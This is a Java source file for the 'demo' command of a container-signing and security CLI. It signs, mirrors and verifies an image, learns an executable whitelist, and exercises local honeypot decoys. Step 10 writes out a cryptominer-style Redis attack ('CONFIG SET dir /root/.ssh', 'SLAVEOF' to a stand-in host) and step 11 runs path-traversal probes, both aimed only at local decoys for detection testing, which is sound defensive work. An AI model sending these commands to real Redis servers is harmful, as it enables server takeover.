package dev.moat.cli;

import dev.moat.Failure;
import dev.moat.MoatException;
import dev.moat.image.ImageBuilder;
import dev.moat.image.ImageLocation;
import dev.moat.image.Manifest;
import dev.moat.image.OciLayout;
import dev.moat.signing.SignatureLayout;
import dev.moat.signing.key.GeneratedKey;
import dev.moat.signing.key.KeyFormat;
import dev.moat.signing.key.KeyPairWriter;
import dev.moat.stage.CheckWhitelistRequest;
import dev.moat.stage.CheckWhitelistStage;
import dev.moat.stage.CopyRequest;
import dev.moat.stage.CopyStage;
import dev.moat.stage.LearnWhitelistRequest;
import dev.moat.stage.LearnWhitelistStage;
import dev.moat.stage.RegistrySettings;
import dev.moat.stage.SignRequest;
import dev.moat.stage.SignStage;
import dev.moat.stage.StageContext;
import dev.moat.stage.StageListener;
import dev.moat.stage.StageResult;
import dev.moat.stage.VerifyRequest;
import dev.moat.stage.VerifyStage;
import dev.moat.whitelist.ExportFormat;
import dev.moat.whitelist.ExportOptions;
import dev.moat.whitelist.LearnOptions;
import dev.moat.whitelist.WhitelistDocument;
import java.io.IOException;
import java.io.PrintWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.Comparator;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.stream.Stream;
import picocli.CommandLine.Command;
import picocli.CommandLine.Model.CommandSpec;
import picocli.CommandLine.Option;
import picocli.CommandLine.Spec;

/**
 * The main job on built-in defaults, needing nothing but a JDK: build a small image into an OCI layout,
 * sign it, verify it, mirror it into a second layout verifying the source and re-signing with another
 * key, verify the copy, show that the publisher's key alone does not vouch for the mirror, then learn the
 * image's whitelist and export it to every enforcer format.
 */
@Command(name = "demo", mixinStandardHelpOptions = true,
    description = "Run sign → verify → copy (verify + re-sign) → verify → learn a whitelist and export it, on a built-in image.")
final class DemoCommand implements Callable<Integer> {

  private static final String MARKER = ".moat-demo";
  private static final String DEMO_PASSPHRASE = "moat-demo-passphrase";

  @Spec CommandSpec spec;

  @Option(names = "--dir", paramLabel = "DIR", defaultValue = "moat-demo", description = "Where the demo writes its files. Default: ${DEFAULT-VALUE}.")
  Path dir;

  @Override
  public Integer call() throws Exception {
    PrintWriter out = spec.commandLine().getOut();
    prepare(dir);
    StageContext context = new StageContext(Map.of(), what -> DEMO_PASSPHRASE.toCharArray(), Clock.systemUTC());
    StageListener listener = new StageListener() {
      @Override
      public void info(String message) {
        out.println("    " + message);
      }

      @Override
      public void warn(String message) {
        out.println("    warning: " + message);
      }
    };

    out.println("1. Generating two ECDSA P-256 key pairs");
    GeneratedKey publisher = KeyPairWriter.generate(dir.resolve("publisher"), KeyFormat.COSIGN, DEMO_PASSPHRASE.toCharArray());
    GeneratedKey mirror = KeyPairWriter.generate(dir.resolve("mirror"), KeyFormat.PKCS8, null);
    out.println("    publisher: " + publisher.privateKey() + " (cosign's encrypted format, with the demo's built-in passphrase), " + publisher.publicKey());
    out.println("    mirror:    " + mirror.privateKey() + " (PKCS#8), " + mirror.publicKey());

    out.println("2. Building a small image into an OCI layout");
    Path sourceDir = dir.resolve("source");
    Manifest image = new ImageBuilder()
        .layer(List.of(new ImageBuilder.File("etc/os-release", "NAME=\"Moat demo\"\nID=moat-demo\n".getBytes(StandardCharsets.UTF_8), 0644)))
        .layer(List.of(new ImageBuilder.File("usr/local/bin/hello", "#!/bin/sh\necho hello from a signed image\n".getBytes(StandardCharsets.UTF_8), 0755),
            // a real ELF program for the whitelist to classify: the launcher of the JDK running the demo
            new ImageBuilder.File("usr/bin/java", java.nio.file.Files.readAllBytes(javaLauncher()), 0755)))
        .entrypoint(List.of("/usr/local/bin/hello"))
        .label("org.opencontainers.image.title", "moat-demo")
        .writeTo(OciLayout.openOrCreate(sourceDir), "demo");
    ImageLocation source = ImageLocation.parse("oci:" + sourceDir + ":demo");
    out.println("    " + source + " → " + image.digest());

    out.println("3. Signing it with the publisher key (both cosign layouts)");
    expectPass(new SignStage().run(new SignRequest(source, publisher.privateKey().toString(), Map.of("pipeline", "moat-demo"),
        java.util.EnumSet.allOf(SignatureLayout.class), RegistrySettings.defaults()), context, listener), out);

    out.println("4. Verifying it with the publisher's public key");
    expectPass(new VerifyStage().run(new VerifyRequest(source, List.of(publisher.publicKey().toString()), 1, RegistrySettings.defaults()), context, listener), out);

    out.println("5. Mirroring it into a second layout: verify with the publisher key (signed pipeline=moat-demo), re-sign with the mirror key");
    ImageLocation copy = ImageLocation.parse("oci:" + dir.resolve("mirror") + ":demo");
    expectPass(new CopyStage().run(new CopyRequest(source, copy, mirror.privateKey().toString(), List.of(publisher.publicKey().toString()), 1,
        Map.of("pipeline", "moat-demo"), false, false, EnumSet.allOf(SignatureLayout.class), Map.of("mirrored-from", source.toString()), false, 4, null, RegistrySettings.defaults()),
        context, listener), out);

    out.println("6. Verifying the copy with the mirror's public key");
    expectPass(new VerifyStage().run(new VerifyRequest(copy, List.of(mirror.publicKey().toString()), 1, RegistrySettings.defaults()), context, listener), out);

    out.println("7. Checking that the publisher key alone does not vouch for the mirror (its signatures were not carried)");
    StageResult refused = new VerifyStage().run(new VerifyRequest(copy, List.of(publisher.publicKey().toString()), 1, RegistrySettings.defaults()), context, listener);
    if (refused.passed()) {
      throw new MoatException(Failure.INTERNAL, "the mirror verified with the publisher key, which never signed it", "");
    }
    out.println("    rejected as expected (exit code " + refused.failure().exitCode() + "): " + refused.message());

    out.println("8. Learning the image's executables into a whitelist and exporting it to KubeArmor, Tetragon, Falco and fapolicyd");
    Path whitelistFile = dir.resolve("whitelist.json");
    StageResult learned = new LearnWhitelistStage().run(new LearnWhitelistRequest(source, whitelistFile, LearnOptions.DEFAULT_PLATFORM,
        LearnOptions.DEFAULT_MAX_LAYER_BYTES, EnumSet.allOf(ExportFormat.class), dir.resolve("policies"), ExportOptions.defaults(), false, null,
        EnumSet.allOf(SignatureLayout.class), RegistrySettings.defaults(), "registry.example.com/moat/demo"), context, listener);
    expectPass(learned, out);
    WhitelistCommand.printCounts(WhitelistDocument.read(whitelistFile), out);

    out.println("9. Checking what ran in a container of the image against the whitelist: /tmp/dropped was never in the image");
    Path events = dir.resolve("observed-execs.txt");
    java.nio.file.Files.writeString(events, "# one executed path a line, as an audit log gives them\n/usr/local/bin/hello\n/usr/bin/java\n/tmp/dropped\n");
    StageResult drift = new CheckWhitelistStage().run(new CheckWhitelistRequest(whitelistFile, events, dir.resolve("drift.json"), dir.resolve("drift.sarif")),
        context, listener);
    if (drift.passed()) {
      throw new MoatException(Failure.INTERNAL, "the drift check passed although /tmp/dropped is not in the whitelist", "");
    }
    out.println("    drift found as expected (exit code " + drift.failure().exitCode() + "): " + drift.message());

    out.println("10. Running a Redis decoy on 127.0.0.1 and attacking it the way a cryptominer would (CONFIG SET dir, SLAVEOF)");
    List<dev.moat.decoy.Alert> alerts = new java.util.concurrent.CopyOnWriteArrayList<>();
    try (dev.moat.decoy.DecoyServer decoys = dev.moat.decoy.DecoyServer.start(List.of(new dev.moat.decoy.ServedDecoy(
        new dev.moat.decoy.DecoyIdentity("payments-cache", "redis", null, null), new dev.moat.decoy.RedisDecoy(), 0)), "127.0.0.1",
        dev.moat.decoy.DecoyLimits.defaults(), alerts::add, java.time.Clock.systemUTC())) {
      int port = decoys.boundPorts().get("payments-cache");
      out.println("    decoy payments-cache (redis) listening on 127.0.0.1:" + port);
      try (java.net.Socket attacker = new java.net.Socket("127.0.0.1", port)) {
        attacker.setSoTimeout(10_000);
        attacker.getOutputStream().write("CONFIG SET dir /root/.ssh\r\nSLAVEOF 203.0.113.7 6379\r\nQUIT\r\n".getBytes(StandardCharsets.US_ASCII));
        attacker.getInputStream().readAllBytes();
      }
    }
    dev.moat.decoy.Alert critical = alerts.stream().filter(a -> a.severity() == dev.moat.decoy.AlertSeverity.CRITICAL).findFirst()
        .orElseThrow(() -> new MoatException(Failure.INTERNAL, "the decoy raised no critical alert", ""));
    out.println("    " + alerts.size() + " alerts, " + alerts.stream().filter(a -> a.severity() == dev.moat.decoy.AlertSeverity.CRITICAL).count()
        + " critical; the first, as Falco JSON (what `moat decoy serve` writes to stdout):");
    out.println("    " + dev.moat.decoy.alert.FalcoJsonSink.render(new dev.moat.decoy.alert.SpooledAlert(java.util.UUID.randomUUID().toString(), critical),
        "demo"));

    out.println("11. Scanning a vulnerable demo target on 127.0.0.1 (Moat's file-download decoy) by crawling it, path traversal and sensitive paths");
    List<dev.moat.decoy.Alert> scanAlerts = new java.util.concurrent.CopyOnWriteArrayList<>();
    StageResult scanned;
    try (dev.moat.decoy.DecoyServer target = dev.moat.decoy.DecoyServer.start(List.of(new dev.moat.decoy.ServedDecoy(
        new dev.moat.decoy.DecoyIdentity("documents", "file-download", null, null),
        new dev.moat.decoy.FileDownloadDecoy(dev.moat.decoy.FakeFilesystem.canned()), 0)), "127.0.0.1", dev.moat.decoy.DecoyLimits.defaults(),
        scanAlerts::add, java.time.Clock.systemUTC())) {
      String url = "http://127.0.0.1:" + target.boundPorts().get("documents");
      scanned = new dev.moat.stage.ScanApiStage().run(dev.moat.stage.ScanApiRequest.fromParameters(Map.of("target", url, "crawl", "true",
          "checks", "path-traversal,directory-enumeration", "report-dir", dir.resolve("scan").toString(), "fail-on", "high")), context, listener);
    }
    if (scanned.passed()) {
      throw new MoatException(Failure.INTERNAL, "the scan found no path traversal in the file-download decoy", "report this as a bug");
    }
    out.println("    gate failed as expected (exit code " + scanned.failure().exitCode() + "): " + scanned.message());
    out.println("    and the decoy raised " + scanAlerts.size() + " alert(s) on the scanner's probes");

    out.println();
    out.println("Done. Files are in " + dir.toAbsolutePath() + ":");
    out.println("  source/    the image and its signatures (tags demo, " + image.digest().tagForm() + ".sig, " + image.digest().tagForm() + ")");
    out.println("  mirror/    the copy, signed with the mirror key");
    out.println("  *.key *.pub  the key pairs");
    out.println("  whitelist.json  the source image's executables, bound to " + image.digest());
    out.println("  observed-execs.txt, drift.json, drift.sarif  what the drift check read and reported");
    out.println("  scan/      the scan's reports: moat-scan.json, .sarif, -junit.xml, .html, .md");
    out.println("  policies/  the whitelist as enforcer policies: "
        + String.join(", ", learned.reports().stream().skip(1).map(p -> p.getFileName().toString()).toList()));
    out.println("Try: ./moat verify oci:" + dir.resolve("mirror") + ":demo --key " + mirror.publicKey());
    out.println("     ./moat decoy serve --decoy redis:16379   (then: redis-cli -p 16379 CONFIG SET dir /tmp)");
    out.println("     ./moat whitelist export " + whitelistFile + " --format kubearmor --selector app=demo --namespace shop");
    out.println("     ./moat whitelist check " + whitelistFile + " --events " + events + "   (exit 20: /tmp/dropped is drift)");
    return 0;
  }

  /** The {@code java} launcher of the running JDK: an ELF program every machine that runs the demo has. */
  private static Path javaLauncher() throws MoatException {
    Path launcher = Path.of(System.getProperty("java.home"), "bin", "java");
    if (!java.nio.file.Files.isRegularFile(launcher)) {
      throw new MoatException(Failure.NOT_FOUND, "the JDK's launcher " + launcher + " is missing", "run the demo with a full JDK or JRE");
    }
    return launcher;
  }

  private static void expectPass(StageResult result, PrintWriter out) throws MoatException {
    if (!result.passed()) {
      throw new MoatException(result.failure(), "demo step failed: " + result.message(), "");
    }
    out.println("    ✓ " + result.message());
  }

  private static void prepare(Path dir) throws MoatException {
    try {
      if (Files.exists(dir)) {
        if (!Files.exists(dir.resolve(MARKER))) {
          try (Stream<Path> entries = Files.list(dir)) {
            if (entries.findAny().isPresent()) {
              throw new MoatException(Failure.INVALID_INPUT, dir + " exists and was not written by moat demo", "give another --dir or remove it");
            }
          }
        } else {
          try (Stream<Path> walk = Files.walk(dir)) {
            for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) {
              Files.delete(p);
            }
          }
        }
      }
      Files.createDirectories(dir);
      Files.writeString(dir.resolve(MARKER), "written by moat demo; the next run deletes this directory\n");
    } catch (IOException e) {
      throw new MoatException(Failure.UNREACHABLE, "cannot prepare " + dir + ": " + e.getMessage(), "check the path and its permissions");
    }
  }
}
